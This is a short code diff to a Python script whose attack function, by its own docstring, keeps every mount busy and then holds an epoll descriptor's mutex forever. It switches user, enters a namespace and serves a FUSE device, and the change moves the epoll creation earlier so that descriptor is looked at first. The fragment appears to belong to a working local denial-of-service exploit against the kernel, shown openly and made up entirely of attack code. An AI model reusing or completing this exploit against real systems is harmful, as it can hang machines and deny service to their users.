@@ -74,6 +74,7 @@ def serve(handle: int, told: int) -> t.NoReturn:
 def attack(told: int) -> None:
     """Keep every mount busy, then have the mutex of an epoll descriptor held for ever."""
     become_user()
+    epoll = select.epoll()  # the first descriptor, which is looked at before any other
     kept = [os.open(path, os.O_RDONLY | os.O_DIRECTORY) for path in BUSY.values()]
     enter_namespace()
     handle = os.open(FUSE, os.O_RDWR)
@@ -83,7 +84,6 @@ def attack(told: int) -> None:
             os.close(fd)
         serve(handle, told)
     os.close(handle)
-    epoll = select.epoll()
     epoll.register(os.open("/mnt/file", os.O_RDONLY), select.EPOLLIN)
 
 
